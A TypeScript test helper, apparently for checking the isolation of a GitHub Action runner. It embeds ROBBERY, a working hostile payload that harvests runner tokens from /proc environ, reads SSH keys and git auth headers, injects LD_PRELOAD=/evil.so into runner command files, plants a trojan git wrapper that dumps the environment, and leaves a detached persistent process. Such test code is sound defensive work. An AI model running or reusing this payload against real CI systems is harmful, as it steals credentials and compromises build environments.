import { execFileSync } from 'node:child_process'
import { existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { setTimeout as sleep } from 'node:timers/promises'
import { layOut, type SceneOptions } from '../world/scene.ts'

/**
 * Code that takes what it can get: secrets of all processes, files of the runner and of the user, a program that the
 * action might start, a process that stays. It writes down what it found, and where it put something.
 */
export const ROBBERY = `import { spawn } from 'node:child_process'
import { appendFileSync, chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { homedir, tmpdir } from 'node:os'
import { dirname, join } from 'node:path'

const loot = []
const attempt = (what, work) => {
  try {
    for (const each of work() ?? []) loot.push(what + ': ' + each)
  } catch {}
}
const pids = readdirSync('/proc').filter(name => /^[0-9]+$/.test(name))
for (const pid of pids)
  attempt('environment', () => readFileSync('/proc/' + pid + '/environ', 'utf8').split('\\0').filter(each => /^(INPUT_|ACTIONS_RUNTIME_TOKEN|GIT_CONFIG_VALUE)/.test(each)).map(each => each.split('=')[0]))

const skip = [process.cwd(), tmpdir(), '/proc', '/sys', '/dev']
const walk = (folder, depth) => {
  if (depth === 0 || skip.some(each => folder.startsWith(each))) return
  for (const name of readdirSync(folder)) {
    const path = join(folder, name)
    attempt('walk', () => {
      if (statSync(path).isDirectory()) return walk(path, depth - 1)
      if (path.includes('_runner_file_commands')) {
        appendFileSync(path, '\\nLD_PRELOAD=/evil.so\\n')
        loot.push('written: ' + name)
      }
    })
  }
}
// Never outside of the runner's own folder: without isolation this really writes.
// The checkout stands beside the runner's files, and a copy of it below them.
const beside = at => [at, join(at, 'runner-temp')].map(each => join(each, '_runner_file_commands')).find(each => existsSync(each))
let above = process.cwd()
while (above !== '/' && beside(above) === undefined) above = dirname(above)
if (above !== '/') attempt('walk', () => walk(beside(above), 4))
attempt('key', () => [readFileSync(join(homedir(), '.ssh', 'id_ed25519'), 'utf8').trim()].filter(Boolean))
attempt('checkout', () => /extraheader.*/.exec(readFileSync('.git/config', 'utf8')))
attempt('planted', () => {
  mkdirSync(join(homedir(), 'bin'), { recursive: true })
  const git = join(homedir(), 'bin', 'git')
  writeFileSync(git, '#!/bin/sh\\nenv > "$HOME/taken"\\nexec /usr/bin/git "$@"\\n')
  chmodSync(git, 0o755)
})
attempt('stays', () => {
  const script = 'while [ -d ' + process.cwd() + ' ]; do echo . >> ' + join(process.cwd(), 'alive.log') + '; sleep 0.1; done'
  spawn('setsid', ['env', '-i', '/bin/sh', '-c', script], { detached: true, stdio: 'ignore' }).unref()
})
writeFileSync('loot.txt', loot.join('\\n') + '\\n', { flag: 'a' })
`.replaceAll('\\\\', '\\')

/** Files that the code above leaves in the checkout. */
export const LEFT = { '.gitignore': 'loot.txt\nalive.log\n' }

/** Run the action on a job with things to take. */
export async function robbed(
  options: SceneOptions,
  { inputs, secrets = [] }: { inputs: Readonly<Record<string, string>>; secrets?: readonly string[] },
) {
  const scene = await layOut(options)
  const home = join(scene.workspace, '..', '..', 'home')
  mkdirSync(join(home, '.ssh'), { recursive: true })
  writeFileSync(join(home, '.ssh', 'id_ed25519'), 'a private key\n')
  execFileSync('git', ['config', 'http.https://git.example/.extraheader', 'AUTHORIZATION: basic c2VjcmV0'], {
    cwd: scene.workspace,
  })
  const path = `${join(home, 'bin')}:${process.env.PATH}`
  const result = await scene.run({ inputs: { ...inputs }, secrets, env: { HOME: home, PATH: path } })
  const found = join(scene.workspace, 'loot.txt')
  const loot = existsSync(found) ? readFileSync(found, 'utf8') : undefined
  return { scene, result, loot, home }
}

/** Watch a file that a process writes to ten times a second. */
export async function grows(path: string): Promise<boolean> {
  const size = () => (existsSync(path) ? statSync(path).size : 0)
  const before = size()
  await sleep(1_000)
  return size() > before
}
